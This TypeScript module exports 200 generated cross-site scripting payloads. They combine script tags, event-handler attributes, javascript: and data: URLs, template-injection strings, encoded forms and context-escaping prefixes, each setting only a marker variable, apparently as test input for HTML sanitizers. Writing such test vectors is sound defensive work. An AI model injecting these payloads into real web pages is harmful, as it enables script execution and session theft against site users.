const run = 'window.stolen=1'

function payloads(): readonly string[] {
  const handlers: readonly (readonly [tag: string, handler: string])[] = [
    ['img src=x', 'onerror'],
    ['svg', 'onload'],
    ['body', 'onload'],
    ['video src=x', 'onerror'],
    ['audio src=x', 'onerror'],
    ['input autofocus', 'onfocus'],
    ['details open', 'ontoggle'],
    ['marquee', 'onstart'],
    ['iframe', 'onload'],
    ['object data=x', 'onerror'],
    ['p style=animation-name:x', 'onanimationstart'],
    ['a href=# id=x tabindex=1', 'onfocus'],
    ['select autofocus', 'onfocus'],
    ['textarea autofocus', 'onfocus'],
    ['style', 'onload'],
    ['link rel=stylesheet href=x', 'onerror'],
    ['math', 'onclick'],
    ['button autofocus', 'onfocus'],
  ]
  const vectors = [
    `<script>${run}</script>`,
    `<ScRiPt>${run}</sCrIpT>`,
    `<script src="data:text/javascript,${run}"></script>`,
    `<iframe srcdoc="<script>parent.stolen=1</script>">`,
    `<a href="javascript:${run}">x</a>`,
    `<form action="javascript:${run}"><button>x</button></form>`,
    `<base href="javascript:${run}//">`,
    `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
    `<svg><script>${run}</script></svg>`,
    `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
    `<object data="javascript:${run}"></object>`,
    `<embed src="javascript:${run}">`,
    ...handlers.map(([tag, handler]) => `<${tag} ${handler}="${run}">`),
    ...handlers.slice(0, 6).map(([tag, handler]) => `<${tag}/${handler}=${run}//`),
  ]
  const waysOut = ['', '">', "'>", '--></textarea></title></style>', '`}]]>']
  const others = [
    `javascript:${run}`,
    `JaVaScRiPt:${run}`,
    `java\tscript:${run}`,
    `data:text/html,<script>${run}</script>`,
    `vbscript:${run}`,
    `{{constructor.constructor('${run}')()}}`,
    `\${${run}}`,
    `#{${run}}`,
    `<%= ${run} %>`,
    `{"__html":"<img src=x onerror=${run}>"}`,
    `" onmouseover="${run}" x="`,
    `' onfocus='${run}' autofocus='`,
    `&lt;script&gt;${run}&lt;/script&gt;`,
    `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
    `%3Cscript%3E${run}%3C/script%3E`,
    `</script><script>${run}</script>`,
    `*/${run}/*`,
    `expression(${run})`,
    `@import "javascript:${run}"`,
    `';${run};'`,
  ]
  const combined = waysOut.flatMap((out) => vectors.map((vector) => out + vector))
  return Object.freeze([...others, ...combined].slice(0, 200))
}

/**
 * Two hundred texts that would run a script in a page that takes text for HTML, for an attribute, for a URL, for a style or for
 * a template. Each sets `window.stolen`. Made of vectors and ways out of what may stand around them.
 */
export const scriptPayloads: readonly string[] = payloads()
